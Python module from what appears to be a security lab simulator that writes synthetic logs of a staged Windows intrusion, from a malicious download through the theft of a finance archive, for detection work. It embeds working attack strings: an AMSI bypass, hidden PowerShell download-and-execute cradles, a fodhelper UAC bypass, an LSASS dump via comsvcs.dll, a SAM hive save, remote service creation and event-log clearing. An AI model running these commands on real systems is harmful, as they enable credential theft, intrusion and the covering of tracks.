"""One intrusion by general means: a downloaded program, a hidden script, an injection, stolen credentials, a remote service."""

from dataclasses import dataclass
from functools import partial

from lab.recording.estate import SYSTEM32, Process
from lab.recording.scripts import encoded
from lab.recording.stage import POWERSHELL, Desk, Stage

SERVICE = "WinSyncHelper"
_RECONNAISSANCE = (
    ("whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /all'),
    ("net.exe", '"C:\\Windows\\system32\\net.exe" group "domain admins" /domain'),
    ("nltest.exe", '"C:\\Windows\\system32\\nltest.exe" /domain_trusts'),
    ("ipconfig.exe", '"C:\\Windows\\system32\\ipconfig.exe" /all'),
    ("systeminfo.exe", '"C:\\Windows\\system32\\systeminfo.exe"'),
    ("net.exe", '"C:\\Windows\\system32\\net.exe" view /domain'),
)
_BLIND = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"


@dataclass(frozen=True)
class Phase:
    """One phase of the intrusion and when it began."""

    name: str
    techniques: tuple[str, ...]
    begins: int


class Intrusion:
    """Plays it on the accountant's machine and the file server.

    Args:
        stage: where it leaves its traces.
        desk: the accountant's.
        begins: its first instant.
    """

    def __init__(self, stage: Stage, desk: Desk, begins: int) -> None:
        self._stage = stage
        self._desk = desk
        self._machine = desk.machine
        self._begins = begins
        self._command = stage.estate.names.command
        self.phases: list[Phase] = []

    def play(self) -> None:
        """Write all of it."""
        implant = self._deliver(self._phase("delivery", 0, "T1566.002", "T1204.002"))
        script = self._script(implant, self._phase("hidden script", 14_000, "T1059.001", "T1027", "T1562.001"))
        self._look_around(script, self._phase("discovery", 30_000, "T1033", "T1087.002", "T1016", "T1482"))
        raised = self._raise(script, self._phase("privilege escalation", 70_000, "T1548.002"))
        host = self._inject(raised, self._phase("injection", 95_000, "T1055"))
        self._steal(host, self._phase("credential access", 110_000, "T1003.001"))
        self._impersonate(raised, self._phase("token theft", 130_000, "T1134.001", "T1003.002"))
        remote = self._move(raised, self._phase("lateral movement", 150_000, "T1021.002", "T1569.002", "T1550"))
        self._collect(remote, self._phase("collection and exfiltration", 185_000, "T1560.001", "T1041"))
        self._beacon(implant, 9_000, 330_000)

    def _phase(self, name: str, offset: int, *techniques: str) -> int:
        self.phases.append(Phase(name, techniques, self._begins + offset))
        return self._begins + offset

    def _deliver(self, at: int) -> Process:
        stage, delivery = self._stage, self._stage.estate.names.delivery
        browser, path = self._machine.running["browser"], f"{self._desk.home}\\Downloads\\Statement_88213.exe"
        stage.connect(browser, at, delivery, 80)
        stage.sysmon.wrote(browser, at + 900, path)
        stage.sysmon.marked(browser, at + 950, path, f"http://{delivery}/files/Statement_88213.exe")
        return stage.start(self._desk.explorer, at + 8_000, path, f'"{path}"')

    def _beacon(self, implant: Process, first: int, last: int) -> None:
        for number, offset in enumerate(range(first, last, 10_000)):
            self._stage.connect(implant, self._begins + offset + 37 * (number * 7919 % 23), self._command, 443)

    def _script(self, implant: Process, at: int) -> Process:
        fetch = f"{_BLIND};IEX (New-Object Net.WebClient).DownloadString('http://{self._command}/s')"
        process = self._hidden(implant, at, fetch)
        self._stage.scripts.command_ran(
            process, at + 700, "New-Object", 'ParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"'
        )
        self._stage.scripts.command_ran(
            process, at + 760, "Invoke-Expression", 'ParameterBinding(Invoke-Expression): name="Command"'
        )
        self._stage.connect(process, at + 800, self._command, 80)
        return process

    def _hidden(self, parent: Process, at: int, script: str) -> Process:
        command = f"{POWERSHELL} -NoP -sta -w hidden -enc {encoded(script)}"
        process = self._stage.start(parent, at, POWERSHELL, command)
        self._stage.sysmon.loaded(process, at + 150, SYSTEM32 + "amsi.dll")
        self._stage.scripts.engine_started(process, at + 240)
        self._stage.scripts.block_compiled(process, at + 300, script)
        return process

    def _look_around(self, script: Process, at: int) -> None:
        controller = self._stage.estate.controller
        for number, (name, command) in enumerate(_RECONNAISSANCE):
            self._stage.run(script, at + 1_700 * number, SYSTEM32 + name, command, 900)
        for number, role in enumerate(("files", "management", "controller")):
            host = self._stage.estate.machines[role]
            self._stage.connect(script, at + 10_400 + 150 * number, host.address, 445, host.running["system"])
        self._stage.connect(script, at + 11_000, controller.address, 389, controller.running["lsass"])
        backup = self._stage.estate.accounts["backup"]
        self._stage.ticket(self._machine, at + 12_000, self._desk.account, backup.name, "0x17")

    def _raise(self, script: Process, at: int) -> Process:
        stage, sid = self._stage, self._desk.account.sid
        key = f"HKU\\{sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)"
        stage.sysmon.set_value(script, at, key, f"{POWERSHELL} -NoP -w hidden -c $x")
        elevated = self._machine.next_logon(self._desk.account, 2, 1)
        helper = stage.start(
            script,
            at + 1_000,
            SYSTEM32 + "fodhelper.exe",
            f'"{SYSTEM32}fodhelper.exe"',
            logon=elevated,
            integrity="High",
        )
        process = self._hidden(
            helper, at + 1_600, f"IEX (New-Object Net.WebClient).DownloadString('http://{self._command}/p')"
        )
        stage.connect(process, at + 2_500, self._command, 80)
        stage.end(helper, at + 3_000)
        return process

    def _inject(self, raised: Process, at: int) -> Process:
        host = self._machine.running["themes"]
        unknown = f"{SYSTEM32}ntdll.dll+9d4c4|{SYSTEM32}KERNELBASE.dll+2c13e|UNKNOWN(000001F4A2C10D37)"
        self._stage.sysmon.accessed(raised, host, at, "0x1fffff", unknown)
        self._stage.sysmon.remote_thread(raised, host, at + 120, "0x000001F4A2C10000")
        for offset in (3_000, 13_200, 23_100):
            self._stage.connect(host, at + offset, self._command, 443)
        return host

    def _steal(self, host: Process, at: int) -> None:
        stage, lsass = self._stage, self._machine.running["lsass"]
        unknown = f"{SYSTEM32}ntdll.dll+9d4c4|{SYSTEM32}KERNELBASE.dll+2c13e|UNKNOWN(000001F4A2C14B02)"
        stage.sysmon.accessed(host, lsass, at, "0x1010", unknown)
        path = "C:\\Windows\\Temp\\lsass_21.dmp"
        command = f"{SYSTEM32}rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump {lsass.pid} {path} full"
        dumper = stage.start(host, at + 6_000, SYSTEM32 + "rundll32.exe", command)
        stage.sysmon.loaded(dumper, at + 6_200, SYSTEM32 + "dbgcore.dll")
        trace = f"{SYSTEM32}ntdll.dll+9d4c4|{SYSTEM32}KERNELBASE.dll+2c13e|{SYSTEM32}dbgcore.dll+6d4a|{SYSTEM32}comsvcs.dll+28f3c"
        stage.sysmon.accessed(dumper, lsass, at + 6_300, "0x1fffff", trace)
        stage.sysmon.wrote(dumper, at + 6_400, path)
        stage.end(dumper, at + 8_000)
        stage.connect(host, at + 12_000, self._command, 443)

    def _impersonate(self, raised: Process, at: int) -> None:
        stage, services = self._stage, self._machine.running["services"]
        stage.sysmon.accessed(
            raised, services, at, "0x1400", f"{SYSTEM32}ntdll.dll+9d4c4|{SYSTEM32}KERNELBASE.dll+2c13e"
        )
        command = f'"{SYSTEM32}cmd.exe" /c reg save hklm\\sam C:\\Windows\\Temp\\s1.tmp'
        shell = stage.start(raised, at + 800, SYSTEM32 + "cmd.exe", command, logon=services.logon, integrity="System")
        stage.run(shell, at + 900, SYSTEM32 + "reg.exe", "reg  save hklm\\sam C:\\Windows\\Temp\\s1.tmp", 600)
        stage.end(shell, at + 1_700)

    def _move(self, raised: Process, at: int) -> Process:
        stage, account = self._stage, self._stage.estate.accounts["engineer"]
        server = stage.estate.machines["files"]
        stage.first_ticket(self._machine, at, account, "0x17")
        stage.security.explicit(raised, at + 200, account, server.fqdn)
        stage.ask_resolver(self._machine, at + 300)
        stage.sysmon.resolved(raised, at + 320, server.fqdn, server.address)
        stage.connect(raised, at + 400, server.address, 135, server.running["rpcss"])
        logon, _ = stage.sign_in_over(raised, at + 500, server.running["services"], 49_671, account)
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{self._command}/f')"
        command = f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell -noP -sta -w 1 -enc {encoded(script)}"
        order = f"%COMSPEC% /C start /b {command}"
        key = f"HKLM\\System\\CurrentControlSet\\Services\\{SERVICE}\\ImagePath"
        stage.sysmon.set_value(server.running["services"], at + 1_200, key, order)
        stage.security.service_installed(server, at + 1_204, logon, SERVICE, order)
        stage.scripts.service_installed(server, at + 1_210, SERVICE, order)
        stage.security.logged_off(server, at + 30_000, logon)
        return self._arrive(server.running["services"], at + 1_400, command, script)

    def _arrive(self, services: Process, at: int, command: str, script: str) -> Process:
        stage = self._stage
        shell = stage.start(services, at, SYSTEM32 + "cmd.exe", f"{SYSTEM32}cmd.exe /C start /b {command}")
        process = stage.start(shell, at + 60, POWERSHELL, command)
        stage.end(shell, at + 200)
        stage.scripts.engine_started(process, at + 300)
        stage.scripts.block_compiled(process, at + 350, script)
        stage.connect(process, at + 900, self._command, 80)
        for offset in range(8_000, 100_000, 15_000):
            stage.connect(process, at + offset, self._command, 443)
        return process

    def _collect(self, remote: Process, at: int) -> None:
        stage = self._stage
        run = partial(stage.run, remote)
        run(at, SYSTEM32 + "net1.exe", '"C:\\Windows\\system32\\net1.exe" share', 500)
        run(at + 3_000, SYSTEM32 + "whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /groups', 500)
        archive = "Compress-Archive -Path D:\\Shares\\Finance -DestinationPath C:\\ProgramData\\cab_71.zip"
        stage.scripts.block_compiled(remote, at + 8_000, archive)
        stage.sysmon.wrote(remote, at + 20_000, "C:\\ProgramData\\cab_71.zip")
        stage.connect(remote, at + 26_000, self._command, 443)
        run(
            at + 40_000, SYSTEM32 + "wevtutil.exe", '"C:\\Windows\\system32\\wevtutil.exe" cl "Windows PowerShell"', 600
        )
